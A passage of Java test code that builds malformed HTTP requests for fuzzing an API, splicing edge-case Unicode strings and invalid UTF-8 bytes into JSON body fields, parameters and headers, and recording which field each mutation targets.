	private static List<ParameterSlot> allParameters() {
		List<ParameterSlot> slots = new ArrayList<>();
		for (Operation operation : operations) {
			for (Parameter parameter : operation.parameters()) {
				if (!parameter.name().equals("Authorization")) {
					slots.add(new ParameterSlot(baseline(operation), parameter));
				}
			}
		}
		return slots;
	}

	// ---- Writing

	private static List<byte[]> unicodeLiterals() {
		List<String> literals = List.of("\"\\ud800\"", "\"\\udc00\"", "\"x\\ud83dy\"", "\"\\ude00\\ud83d\"",
				"\"\\u0000\"", "\"a\\u0000b\"", "\"\\u200f\\u202eabc\\u202c\"", "\"\\u200b\\u200c\\u200d\"",
				"\"e\\u0301\\u0302\\u0303\\u0304\"", "\"😀\"", "\"\\ud83d\\ude00\"", "\"👨‍👩‍👧‍👦\"", "\"🇻🇳\"",
				"\"\\ufeff\"", "\"\\uffff\"", "\"\\ufffe\"", "\"\\u2028\\u2029\"", "\"Tiếng Việt có dấu\"",
				"\"Tie\\u0302\\u0301ng Vie\\u0323\\u0302t\"", "\"\\u001b[31mred\"", "\"\\r\\n\\t\"",
				"\"Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇\"", "\"𝕳𝖊𝖑𝖑𝖔\"", "\"ﷺ\"", "\"\\u0085\"");
		List<byte[]> bytes = new ArrayList<>();
		literals.forEach((literal) -> bytes.add(literal.getBytes(StandardCharsets.UTF_8)));
		// Not UTF-8: a bad continuation, a lone 0xFF, an encoded surrogate, an overlong
		// slash, a raw control character.
		for (byte[] raw : List.of(new byte[] { (byte) 0xC3, 0x28 }, new byte[] { (byte) 0xFF },
				new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, new byte[] { (byte) 0xC0, (byte) 0xAF },
				new byte[] { 0x01 }, new byte[] { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 })) {
			bytes.add(concat(concat(new byte[] { '"', 'a' }, raw), new byte[] { 'b', '"' }));
		}
		return bytes;
	}

	private static String quoted(String text) {
		try {
			return JSON.writeValueAsString(text);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static String encoded(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
	}

	private static String repeatToLength(String letter, int length) {
		StringBuilder text = new StringBuilder(length + 2);
		while (text.length() < length) {
			text.append(letter);
		}
		return text.toString();
	}

	private static String abbreviated(String text, int length) {
		String printable = text.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
		return (printable.length() > length) ? printable.substring(0, length) + "…(" + text.length() + ")" : printable;
	}

	private static byte[] concat(byte[] first, byte[] second) {
		ByteArrayOutputStream both = new ByteArrayOutputStream();
		both.writeBytes(first);
		both.writeBytes(second);
		return both.toByteArray();
	}

	/**
	 * One request to send: the operation, its path and query values (encoded as they go
	 * on the wire), its headers and body bytes; the field or parameter made bad, and what
	 * was made bad.
	 */
	record Fuzz(Operation operation, Map<String, String> pathValues, Map<String, String> query, List<String[]> headers,
			JsonNode bodyTree, byte[] body, String blamed, String mutation, boolean overADocumentedLimit) {

		String target() {
			String path = this.operation.path();
			for (Map.Entry<String, String> value : this.pathValues.entrySet()) {
				path = path.replace("{" + value.getKey() + "}", value.getValue());
			}
			if (this.query.isEmpty()) {
				return path;
			}
			StringBuilder target = new StringBuilder(path).append('?');
			this.query.forEach((name, value) -> target.append((target.charAt(target.length() - 1) == '?') ? "" : "&")
				.append(name)
				.append('=')
				.append(value));
			return target.toString();
		}

		Fuzz withBody(byte[] newBody, String what) {
			return new Fuzz(this.operation, this.pathValues, this.query, this.headers, null, newBody, null, what,
					false);
		}

		Fuzz replacing(BodyField field, String literal, String what) {
			return splicing(field, literal.getBytes(StandardCharsets.UTF_8), what);
		}

		/** The valid body with the field's value written as these bytes. */
		Fuzz splicing(BodyField field, byte[] literal, String what) {
			JsonNode tree = this.bodyTree.deepCopy();
			set(tree, field.pointer(), TextNode.valueOf(SPLICE));
			String[] around = tree.toString().split(java.util.regex.Pattern.quote(quoted(SPLICE)), 2);
			byte[] written = concat(concat(around[0].getBytes(StandardCharsets.UTF_8), literal),
					around[1].getBytes(StandardCharsets.UTF_8));
			return new Fuzz(this.operation, this.pathValues, this.query, this.headers, tree, written, field.name(),
					what, false);
		}

		Fuzz removing(BodyField field) {
			JsonNode tree = this.bodyTree.deepCopy();
			JsonPointer pointer = JsonPointer.compile(field.pointer());
			JsonNode parent = tree.at(pointer.head());
			if (parent instanceof ObjectNode object) {
				object.remove(pointer.last().getMatchingProperty());
			}
			return new Fuzz(this.operation, this.pathValues, this.query, this.headers, tree,
					tree.toString().getBytes(StandardCharsets.UTF_8), field.name(), "without " + field.name(), false);
		}

		Fuzz adding(BodyField object, String name, String literal, String what) {
			JsonNode tree = this.bodyTree.deepCopy();
			JsonNode target = object.pointer().isEmpty() ? tree : tree.at(object.pointer());
			((ObjectNode) target).put(name, SPLICE);
			String[] around = tree.toString().split(java.util.regex.Pattern.quote(quoted(SPLICE)), 2);
			byte[] written = (around[0] + literal + around[1]).getBytes(StandardCharsets.UTF_8);
			String blamedName = object.name().isEmpty() ? name : object.name() + "." + name;
			return new Fuzz(this.operation, this.pathValues, this.query, this.headers, tree, written, blamedName, what,
					false);
		}

		Fuzz withParameter(Parameter parameter, String value, String what) {
			Map<String, String> path = new LinkedHashMap<>(this.pathValues);
			Map<String, String> newQuery = new LinkedHashMap<>(this.query);
			List<String[]> newHeaders = new ArrayList<>(this.headers);
			switch (parameter.in()) {
				case "path" -> path.put(parameter.name(), value);
				case "query" -> newQuery.put(parameter.name(), value);
				default -> {
					newHeaders.removeIf((header) -> header[0].equalsIgnoreCase(parameter.name()));
					newHeaders.add(new String[] { parameter.name(), value });
				}
			}
			return new Fuzz(this.operation, path, newQuery, newHeaders, this.bodyTree, this.body, parameter.name(),
					what, false);
		}

		Fuzz withHeader(String name, String value, String what) {
			List<String[]> newHeaders = new ArrayList<>(this.headers);
			newHeaders.removeIf((header) -> header[0].equalsIgnoreCase(name));
			newHeaders.add(new String[] { name, value });
			return new Fuzz(this.operation, this.pathValues, this.query, newHeaders, this.bodyTree, this.body,
					name.equals("If-Match") ? name : null, what, false);
		}

		Fuzz withoutHeader(String name, String what) {
			List<String[]> newHeaders = new ArrayList<>(this.headers);
			newHeaders.removeIf((header) -> header[0].equalsIgnoreCase(name));
			return new Fuzz(this.operation, this.pathValues, this.query, newHeaders, this.bodyTree, this.body, null,
					what, false);
		}

		Fuzz blaming(String field) {
			return new Fuzz(this.operation, this.pathValues, this.query, this.headers, this.bodyTree, this.body, field,
					this.mutation, this.overADocumentedLimit);
		}

		Fuzz overLimit(boolean documented) {
			return new Fuzz(this.operation, this.pathValues, this.query, this.headers, this.bodyTree, this.body,
					this.blamed, this.mutation, documented);
		}

		private static void set(JsonNode tree, String pointer, JsonNode value) {
			JsonPointer at = JsonPointer.compile(pointer);
			JsonNode parent = tree.at(at.head());
			if (parent instanceof ObjectNode object) {
				object.set(at.last().getMatchingProperty(), value);
			}
			else if (parent instanceof ArrayNode array) {
				array.set(at.last().getMatchingIndex(), value);
			}
		}

		@Override
		public String toString() {
			String bodyText = (this.body != null) ? new String(this.body, StandardCharsets.UTF_8) : "";
			List<String> headerNames = this.headers.stream()
				.map((header) -> header[0].equals("Authorization") && header[1].length() > 60 ? "Authorization: …"
						: header[0] + ": " + abbreviated(header[1], 60))
				.toList();
			return "[" + this.mutation + "] " + this.operation.method() + " " + abbreviated(target(), 200) + " "
					+ headerNames + " " + abbreviated(bodyText, 400);
		}

	}

	/**
	 * A field of a valid body: where it is (a JSON pointer), its name as problems name it
	 * ({@code documents[0].sha256}), its schema, whether it is required, its valid value.
	 */
	record BodyField(Fuzz fuzz, String pointer, String name, JsonNode schema, boolean required, JsonNode value) {

		@Override
		public String toString() {
			return this.fuzz.operation() + " " + this.name;
		}

	}

	/** A parameter of an operation, with the operation's valid request. */
	record ParameterSlot(Fuzz fuzz, Parameter parameter) {

		@Override
		public String toString() {
			return this.fuzz.operation() + " " + this.parameter.in() + " " + this.parameter.name();
		}

	}

}
